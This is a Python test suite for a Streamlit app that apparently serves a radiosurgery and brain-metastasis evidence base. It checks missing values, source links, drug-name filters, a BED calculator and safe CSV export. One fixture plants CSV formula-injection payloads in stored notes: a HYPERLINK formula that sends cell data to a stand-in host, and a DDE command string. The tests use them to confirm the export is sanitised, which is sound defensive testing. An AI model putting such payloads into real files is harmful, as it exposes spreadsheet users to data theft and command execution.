"""AppTest: what a reader sees after an interaction — honest eligibility filters, drug names in every form, the BED
calculator's notations, a source and a link for every figure, missing values as "—" with their meaning, CSV
downloads a spreadsheet cannot run, stored text that never becomes a link, and a Home page that leads in."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest
import streamlit as st
from downloads import downloaded  # noqa: F401
from pages_helpers import open_page
from streamlit.testing.v1 import AppTest

from kb import display

ROOT = Path(__file__).resolve().parent.parent
TIMEOUT = 60




def table_with(at: AppTest, column: str) -> pd.DataFrame:
    return next(d.value for d in at.dataframe if column in d.value.columns)


def shown_count(at: AppTest, stem: str) -> int:
    text = next(m.value for m in at.markdown if m.value.startswith("**") and stem in m.value)
    return int(text.split("**")[1])


# ------------------------------------------------------------------------------------------------ missing values
@pytest.mark.parametrize("page, params", [("sources", {}), ("explorer", {"study": "n0574"}), ("dosing", {}),
                                          ("toxicity", {}), ("guidelines", {}), ("imaging", {})])
def test_every_table_draws_missing_values_as_a_dash_and_says_what_it_means(built_db, page, params):
    at = open_page(page, **params)
    assert at.dataframe
    missing_shown = False
    for element in at.dataframe:
        assert element.proto.placeholder == display.MISSING_MARK
        shown = list(element.proto.column_order) or list(element.value.columns)
        missing_shown |= bool(element.value[shown].isna().to_numpy().any())
    captions = " ".join(c.value for c in at.caption)
    assert (display.MISSING_LEGEND in captions) == missing_shown
    for frame in (d.value for d in at.dataframe):
        text = frame.select_dtypes(exclude="number").astype(str)
        leaked = text.isin(["nan", "None", "NaN", "<NA>"]) & frame.select_dtypes(exclude="number").notna()
        assert not leaked.to_numpy().any()


def test_tables_open_on_the_columns_that_answer_with_the_rest_one_tap_away(built_db):
    at = open_page("dosing")
    schedules = next(d for d in at.dataframe if "Lesion size" in d.value.columns and "Type" in d.value.columns)
    assert list(schedules.proto.column_order) == ["Schedule", "Lesion size", "Type", "Study", "Source", "Read in"]
    at.toggle(key="do_table_all").set_value(True).run()
    schedules = next(d for d in at.dataframe if "Lesion size" in d.value.columns and "Type" in d.value.columns)
    assert list(schedules.proto.column_order) == list(schedules.value.columns)


# ------------------------------------------------------------------------------------------------ sources of figures
def test_every_dose_schedule_names_its_source_and_links_to_where_it_was_read(built_db):
    at = open_page("dosing")
    schedules = table_with(at, "Schedule")
    assert schedules["Source"].notna().all() and schedules["Read in"].notna().all()
    assert not schedules["Read in"].str.contains(r"/nan/?$|/None/?$", regex=True).any()
    assert "Study" in schedules.columns
    limits = table_with(at, "Risk of")
    assert limits["Source"].notna().all() and limits["Read in"].notna().all()


@pytest.mark.parametrize("page, column", [("toxicity", "Timing window"), ("guidelines", "Recommendation (our words)"),
                                          ("imaging", "Modality"), ("explorer", "Metastases eligible")])
def test_every_row_with_a_figure_links_to_where_it_was_read(built_db, page, column):
    table = table_with(open_page(page), column)
    assert table["Read in"].notna().all()
    assert table["Read in"].str.match(r"^(https?://|/sources\?q=)").all()


def test_the_study_view_links_each_outcome_and_shows_no_badge_markup(built_db):
    at = open_page("explorer", study="sahgal2015")
    outcomes = table_with(at, "Result")
    assert outcomes["Read in"].notna().all()
    assert not outcomes.astype(str).apply(lambda c: c.str.contains(":green-badge[", regex=False)).to_numpy().any()
    assert set(outcomes["Population"]) == {f"Age {a} years (modelled)" for a in (35, 40, 45, 50)}


# ------------------------------------------------------------------------------------------------ honest filters
def test_melanoma_checkpoint_inhibitor_and_three_metastases_keeps_the_unrecorded_studies_marked(built_db):
    at = open_page("explorer", histology="melanoma", drug_class="immune_checkpoint_inhibitor", mets="3")
    table = table_with(at, "Metastases eligible")
    assert shown_count(at, "stud") == len(table) == 9
    assert {"CheckMate 204"} <= set(table["Study"]) and any(s.startswith("ABC trial") for s in table["Study"])
    assert (table["Metastases eligible"] == "not recorded").all()
    assert any("do not record this eligibility" in c.value for c in at.caption)
    at.toggle(key="ex_recorded").set_value(True).run()
    assert shown_count(at, "stud") == 0
    assert at.query_params["recorded"] in ("only", ["only"])
    assert any("number of metastases" in i.value for i in at.info)


@pytest.mark.parametrize("name", ["T-DM1", "Kadcyla", "tdm1", "trastuzumab emtansine", "ado-trastuzumab emtansine"])
def test_the_toxicity_drug_filter_takes_any_name_of_the_drug(built_db, name):
    at = open_page("toxicity", drug=name)
    assert at.multiselect(key="tx_drug").value == ["trastuzumab_emtansine"]
    assert set(table_with(at, "Timing window")["Drug"]) == {"trastuzumab emtansine (T-DM1)"}


def test_drug_options_carry_brands_and_abbreviations_so_typing_finds_them(built_db):
    at = open_page("explorer")
    labels = set(at.multiselect(key="ex_drug").options)  # what the type-to-search matches
    assert any("T-DM1" in label and "Kadcyla" in label for label in labels)
    assert any("T-DXd" in label and "Enhertu" in label for label in labels)
    assert any("dabrafenib" in label for label in labels)
    at = open_page("explorer", drug="Enhertu")
    assert at.multiselect(key="ex_drug").value == ["trastuzumab_deruxtecan"]


# ------------------------------------------------------------------------------------------------ BED calculator
@pytest.mark.parametrize("typed", ["27 Gy / 3 fx", "27Gy/3fx", "3 x 9 Gy", "9 Gy x 3", "3 × 9 Gy"])
def test_the_bed_calculator_reads_the_usual_notations(built_db, typed):
    at = open_page("dosing")
    at.text_input(key="do_calc").input(typed).run()
    assert not at.error
    table = next(d.value for d in at.dataframe if "BED tumour, α/β 10 (Gy)" in d.value.columns)
    assert table.set_index("Schedule").loc["27 Gy / 3 fx", "BED tumour, α/β 10 (Gy)"] == 51.3


def test_the_bed_calculator_answers_anything_else_with_an_example(built_db):
    at = open_page("dosing")
    at.text_input(key="do_calc").input("twenty-seven in three").run()
    message = at.error[0].value.replace("\\", "")
    assert "is not a schedule" in message and "27 Gy / 3 fx" in message and "3 x 9 Gy" in message


# ------------------------------------------------------------------------------------------------ CSV and stored text
@pytest.fixture
def hostile_db(data_copy, tmp_path, monkeypatch):
    """The KB with formulas and plain URLs typed into stored text by an editor."""
    from kb.build import build

    def edit(table: str, row_id: str, column: str, value: str) -> None:
        path = data_copy / f"{table}.csv"
        with path.open(encoding="utf-8", newline="") as handle:
            rows = list(csv.DictReader(handle))
        key = next(iter(rows[0]))
        for row in rows:
            if row[key] == row_id:
                row[column] = value
        with path.open("w", encoding="utf-8", newline="") as handle:
            writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)

    edit("sources", "ref028", "note", '=HYPERLINK("http://evil.example/?d="&A1,"click")')
    edit("sources", "ref026", "note", "@SUM(1+1)*cmd|' /C calc'!A0")
    recs = list(csv.DictReader((data_copy / "recommendations.csv").open(encoding="utf-8")))
    target = next(r for r in recs if r["topic_id"] == "srs_vs_wbrt")
    edit("recommendations", target["recommendation_id"], "recommendation",
         "See https://evil.example/srs and www.evil.example or mail someone@evil.example")
    db = tmp_path / "hostile.duckdb"
    build(db, data_dir=data_copy)
    monkeypatch.setenv("KB_DB", str(db))
    st.cache_data.clear()
    yield db
    st.cache_data.clear()


def test_csv_downloads_neutralise_formulas(hostile_db, downloaded):
    at = AppTest.from_file(str(ROOT / "pages/sources.py"), default_timeout=TIMEOUT)
    at.query_params["q"] = "ref02"
    at.run()
    at.toggle(key="so_table_all").set_value(True).run()
    content = downloaded(at, "so_table_csv").decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(content)))
    notes = {r["Note"] for r in rows}
    assert '\'=HYPERLINK("http://evil.example/?d="&A1,"click")' in notes
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in notes
    assert not any(n.startswith(("=", "+", "-", "@")) for r in rows for n in r.values())
    assert "nan" not in content.lower().replace("nanc", "")  # no missing value written as text


def test_plain_urls_in_stored_text_stay_text_in_the_guideline_comparison(hostile_db):
    at = AppTest.from_file(str(ROOT / "pages/guidelines.py"), default_timeout=TIMEOUT)
    at.query_params["compare"] = "srs_vs_wbrt"
    at.run()
    shown = [m.value for m in at.markdown if "evil" in m.value]
    assert shown
    for text in shown:
        assert display.WORD_JOINER + "https" in text and display.WORD_JOINER + "www" in text
        assert display.WORD_JOINER + "@" in text and "](" not in text
        assert re.sub(r"[\\\u2060]", "", text) == "See https://evil.example/srs and www.evil.example or mail " \
                                                  "someone@evil.example"


def test_the_search_csv_has_columns_in_words_and_no_score(built_db, downloaded):
    at = AppTest.from_file(str(ROOT / "pages/search.py"), default_timeout=TIMEOUT).run()
    at.text_input[0].input("N0574").run()
    header = next(csv.reader(io.StringIO(downloaded(at, "Download these results (CSV)").decode("utf-8"))))
    assert not any("score" in column.lower() for column in header), header
    assert header[:3] == ["Rank", "Citation", "First author"]


# ------------------------------------------------------------------------------------------------ home
def test_home_search_box_opens_search_with_the_query(built_db):
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=TIMEOUT).run()
    at.text_input(key="home_q").input("T-DM1 radionecrosis").run()     # typing, then Enter
    assert not at.exception
    assert at.title[0].value == "Search"
    assert at.query_params["q"] in ("T-DM1 radionecrosis", ["T-DM1 radionecrosis"])
    assert at.text_input[0].value == "T-DM1 radionecrosis"
    assert any("Stumpf" in m.value for m in at.markdown)


def test_home_has_a_shortcut_for_each_kind_of_reader(built_db):
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=TIMEOUT).run()
    links = {p.proto.label: p.proto for p in at.get("page_link")}
    assert "histology=melanoma" in links["Open the trials"].query_string
    assert "drug=trastuzumab_emtansine" in links["Open the drug–SRS signals"].query_string
    assert links["Open the review queue"].page.endswith("editor")
    at.selectbox(key="home_histology").select("breast_her2pos").run()
    links = {p.proto.label: p.proto for p in at.get("page_link")}
    assert "histology=breast_her2pos" in links["Open the trials"].query_string
